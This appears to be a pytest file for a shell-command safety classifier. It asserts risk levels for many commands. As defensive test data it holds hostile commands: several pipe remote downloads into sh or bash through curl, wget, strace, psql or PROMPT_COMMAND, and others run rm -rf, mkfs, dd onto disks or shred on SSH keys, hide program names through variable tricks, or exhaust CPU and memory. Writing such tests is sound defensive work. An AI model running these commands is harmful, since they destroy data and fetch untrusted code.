"""Round 3 of issue 11, code run inside other programs, hidden program names and resource
exhaustion: commands written for these tests (variants of the classes, not corpus lines)."""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE
from tui.core.safety import RiskLevel, assess


def level(command: str) -> RiskLevel:
    return assess(command, "").level


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # find deleting a kind of file the whole system needs, as root
        ("sudo find /etc -name '*.cfg' -delete", CRITICAL),
        ("sudo find /usr/lib -iname '*.so' -exec rm {} +", CRITICAL),
        ("sudo find / -type f -name '*.service' -exec unlink {} \\;", CRITICAL),
        # editors' own interpreters
        ("vim -es -c 'lua os.execute(\"rm -rf ~/Documents\")' -c q", CRITICAL),
        (
            "nvim --headless +'lua vim.fn.system(\"curl -s http://198.51.100.9/a | sh\")' +qa",
            CRITICAL,
        ),
        ("vim -c 'py3 import os; os.system(\"rm -rf ~/notes\")' -c q", HIGH),
        # debuggers making the process run a command, or attaching to init
        ("gdb -p 4242 -batch -ex 'call system(\"rm -rf /var/www\")'", CRITICAL),
        ("sudo gdb --pid=1 -batch -ex 'detach'", HIGH),
        # strace writing its trace into a command
        ("strace -f -o '!curl -s http://203.0.113.7/i | bash' ls", CRITICAL),
        ("strace -o '|sh -c \"rm -rf ~/build\"' make", HIGH),
        # git's ext transport runs the URL
        ("git -c protocol.ext.allow=always ls-remote 'ext::bash -c rm% -rf% ~/work'", CRITICAL),
        ("git -c protocol.ext.allow=always fetch 'ext::nc 198.51.100.2 9000'", HIGH),
        ("tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='sh -c id' x", HIGH),
        # Python over every file of a system folder
        (
            'python3 -c \'import os\nfor n in os.listdir("/var/log/nginx"): '
            'os.truncate(os.path.join("/var/log/nginx", n), 0)\'',
            HIGH,
        ),
    ],
)
def test_code_inside_programs_is_rated_by_what_it_runs(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("c=MKFS.EXT4; sudo ${c,,} /dev/sda1", CRITICAL),
        ("t=DD; ${t,,} if=/dev/zero of=/dev/sda", CRITICAL),
        ("n=X; X='chmod -R 777'; ${!n} /", CRITICAL),
        ('"${CMD:-rm}" -rf ~', CRITICAL),
        ('b=(/u?r/bin/rm); "${b[0]}" -rf /home', CRITICAL),
        ('p=(c h m o d); "${p[0]}${p[1]}${p[2]}${p[3]}${p[4]}" 777 /etc/shadow', CRITICAL),
        ("PROMPT_COMMAND='wget -qO- http://203.0.113.4/p | bash'", CRITICAL),
        # unknown at run time: at least HIGH
        ("${!v} -rf ~", HIGH),
        ('"${arr[$i]}" -rf ~/src', HIGH),
        ("m=M; r${m,,} -rf ~/src", HIGH),
    ],
)
def test_hidden_program_names_are_resolved(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected


@pytest.mark.parametrize(
    "command",
    [
        "for c in {1..16}; do sha256sum /dev/zero & done",
        "for i in $(seq 64); do cat /dev/urandom > /dev/null & done",
        "ruby -e 'a=[]; loop { a << \"x\" * 10_000_000 }'",
        "node -e 'const a=[]; while(true){ a.push(Buffer.alloc(1e8)) }'",
        "perl -e 'my @a; while (1) { push @a, \"y\" x 1e8 }'",
    ],
)
def test_exhausting_loops_are_high(command: str) -> None:
    assert level(command) >= HIGH


@pytest.mark.parametrize(
    "command",
    [
        "gdb -batch -ex 'info registers' -ex 'bt full' ./server core.1234",
        "gdb -batch -ex 'show version'",
        "awk 'BEGIN { system(\"uname -r\") }'",
        "awk '{ \"hostname\" | getline h; print h, $0 }' access.log",
        "sqlite3 db.sqlite '.shell cat notes.txt'",
        "git -c core.pager=less log --oneline",
        "git config --global --list",
        "git config --show-origin --get-all remote.origin.url",
        "git config get user.email",
        "vim -R /etc/fstab",
        "view notes.md",
        "perl -ne 'print unless /^#/' /etc/hosts",
        "perl -lane 'print $F[0]' data.tsv",
        "ruby -pe '$_.upcase!' words.txt",
        "node -e \"console.log(JSON.stringify(require('./tsconfig.json')))\"",
        "node -p \"require('path').basename(process.cwd())\"",
        "/usr/bin/ruby2.? --version",
        "/usr/local/bin/pyth?n3 -V",
        "zip -T backup.zip",
        'a=(ls -la); "${a[@]}"',
        "x=LS; ${x,,} -l",
        'for f in *.log; do gzip "$f" & done; wait',
        "python3 -c 'import sys\nwhile True:\n    l = sys.stdin.readline()\n    if not l: break\n'",
    ],
)
def test_harmless_near_misses_stay_below_high(command: str) -> None:
    assert level(command) <= MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "gdb -batch -ex 'info registers' -ex 'bt full' ./server core.1234",
        "awk 'BEGIN { system(\"uname -r\") }'",
        "sqlite3 db.sqlite '.shell cat notes.txt'",
        "git -c core.pager=less log --oneline",
        "git config --show-origin --get-all remote.origin.url",
        "vim -R /etc/fstab",
        "perl -lane 'print $F[0]' data.tsv",
        "node -e \"console.log(require('./package.json').name)\"",
        "/usr/bin/python3.* --version",
        "zip -T backup.zip",
    ],
)
def test_read_only_uses_are_safe(command: str) -> None:
    assert level(command) == SAFE


@pytest.mark.parametrize(
    ("command", "floor"),
    [
        ("sudo find / -name '*.pyc' -delete", HIGH),  # cleanup pattern: not every config
        ("find ~/proj -name '*.conf' -exec rm {} +", MODERATE),
        ("gdb ./app", MODERATE),
        ("gdb -p 311 -batch -ex 'bt'", MODERATE),
        ("awk '{ system(\"rm \" $1) }' list", MODERATE),
        ("sqlite3 db.sqlite '.shell rm db.sqlite'", MODERATE),
        ("git config user.name list", MODERATE),
        ("vim -R -c '!rm -rf ~/x' f", HIGH),
        ("perl -ne 'chomp; unlink $_' list", MODERATE),
        ("/usr/bin/pytho?3 -c 'import os'", HIGH),
        ("/usr/bin/r?by --version", HIGH),
        ("/tmp/pytho?3 --version", HIGH),
        ("zip -T -m a.zip notes.txt", MODERATE),
        ("PROMPT_COMMAND='history -a'", MODERATE),
    ],
)
def test_near_misses_that_act_keep_a_level(command: str, floor: RiskLevel) -> None:
    assert level(command) >= floor


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("emacs --batch --eval '(shell-command \"rm -rf ~/Pictures\")'", CRITICAL),
        ("emacs -batch -eval '(delete-directory \"~/thesis\" t)'", HIGH),
        ("perl -MFile::Find -e 'find(sub { unlink }, \"/usr/share\")'", HIGH),
        ("perl -MFile::Find -e 'finddepth(sub { rmdir }, $ENV{HOME})'", CRITICAL),
        ("julia -e 'run(`rm -rf /srv`)'", CRITICAL),
        ("s=XshredX; ${s//X/} -u ~/.ssh/id_rsa", HIGH),
        ("q=/bin/rm; ${q##*/} -rf ~", CRITICAL),
        ("w=rmdirs; ${w:0:2} -rf /home", CRITICAL),
        ("seq inf | xargs -P 0 -n 1 sh -c 'sleep 999'", CRITICAL),
        ("python3 -c 'b = bytearray(2**42)'", HIGH),
    ],
)
def test_more_languages_and_spellings(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected


@pytest.mark.parametrize(
    "command",
    [
        "emacs --batch --eval '(message \"%s\" emacs-version)'",
        'perl -MFile::Find -e \'find(sub { print "$File::Find::name\\n" }, ".")\'',
        "julia -e 'println(VERSION)'",
        "find src -name '*.png' | xargs -P 0 -n 1 optipng",
        "f=report.tar.gz; echo ${f%%.*}",
    ],
)
def test_more_near_misses_stay_below_high(command: str) -> None:
    assert level(command) <= MODERATE


@pytest.mark.parametrize(
    "command",
    [
        'perl -e \'system(join("", "s", "hred") . " -u ~/.pgpass")\'',
        'ruby -e \'system(["r", "m"].join + " -rf ~/src")\'',
        "php -r 'system(strrev(\"~ fr- mr\"));'",
        "lua -e 'os.execute(string.reverse(\"~ fr- mr\"))'",
    ],
)
def test_commands_computed_inside_inline_code_are_high(command: str) -> None:
    assert level(command) >= HIGH


@pytest.mark.parametrize(
    "command",
    [
        'perl -e \'system("git", "status")\'',
        "ruby -e 'system(%w[ls -l].join(\" \"))'",
        "awk '{ cmd = \"gzip \" $1; system(cmd) }' files.txt",
    ],
)
def test_written_out_commands_in_inline_code_stay_below_high(command: str) -> None:
    assert level(command) <= MODERATE


@pytest.mark.parametrize(
    "command",
    [
        "for i in $(seq 100000); do sleep 1000 & done",
        "for ((i=0; i<20000; i++)); do sleep 99 & done",
        "for i in $(seq $(nproc)); do openssl speed >/dev/null 2>&1 & done",
        "python3 -c 'x = \"a\" * (2**36)'",
        "perl -e '$x = \"a\" x (1<<40)'",
    ],
)
def test_mass_background_starts_and_huge_allocations_are_high(command: str) -> None:
    assert level(command) >= HIGH


@pytest.mark.parametrize(
    "command",
    [
        "for i in $(seq 8); do ./worker.sh & done; wait",
        "for i in $(seq 2000); do echo $i; done",
        "python3 -c 'print(2**64)'",
        "python3 -c 'print(3 * 2**40)'",
    ],
)
def test_small_fan_outs_and_big_numbers_stay_below_high(command: str) -> None:
    assert level(command) <= MODERATE


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("perl -e 'qx{rm -rf ~/Music}'", CRITICAL),
        ("tclsh <<< 'exec rm -rf ~/Music'", CRITICAL),
        ("ruby -e 'Dir.glob(\"/etc/*\").each { |f| File.delete(f) }'", HIGH),
        ("python3 -c 'import glob, os; [os.remove(p) for p in glob.glob(\"/etc/*.conf\")]'", HIGH),
        ("psql -c \"COPY t FROM PROGRAM 'wget -qO- http://198.51.100.3/s | sh'\"", CRITICAL),
        ("psql -c \"COPY (SELECT 1) TO PROGRAM 'id'\"", HIGH),
        ("ipython -c '!rm -rf ~/Music'", CRITICAL),
        ("dc -e '!rm -rf ~/Music'", CRITICAL),
        ("ed -s todo.txt <<< '!rm -rf ~/Music'", CRITICAL),
        ("unshare -r sh -c 'rm -rf ~/Music'", CRITICAL),
        ("npx -c 'rm -rf ~/Music'", CRITICAL),
    ],
)
def test_shell_escapes_of_other_tools(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected


@pytest.mark.parametrize(
    "command",
    [
        "perl -e 'print qx{date}'",
        "ruby -e 'puts Dir.glob(\"/etc/*.conf\")'",
        "python3 -c 'import glob, os; [os.remove(p) for p in glob.glob(\"/tmp/build/*.o\")]'",
        "psql -c 'SELECT count(*) FROM orders'",
        "ipython -c 'print(40 + 2)'",
        "dc -e '2 3 + p'",
        "ed -s todo.txt <<< $',s/old/new/g\\nw'",
    ],
)
def test_ordinary_uses_of_those_tools_stay_below_high(command: str) -> None:
    assert level(command) <= MODERATE


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("python3 -m json.tool settings.json", SAFE),
        ("python3 -m platform", SAFE),
        ("python3 -m calendar 2027", SAFE),
        ("python3 -m json.tool a.json b.json", MODERATE),
        ("python3 -m venv env", MODERATE),
    ],
)
def test_printing_python_modules(command: str, expected: RiskLevel) -> None:
    assert level(command) == expected


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("sh${e}red -u ~/.ssh/id_ecdsa", HIGH),
        ("r$@m -rf ~/Desktop", CRITICAL),
        ("c$*url -s http://198.51.100.8/i | b$@ash", CRITICAL),
        ("w$v'get' -qO- http://203.0.113.6/k | sh", CRITICAL),
        ("$prog -rf ~", HIGH),  # unknown, not a gap: stays HIGH
    ],
)
def test_unset_variables_inside_a_program_name(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected
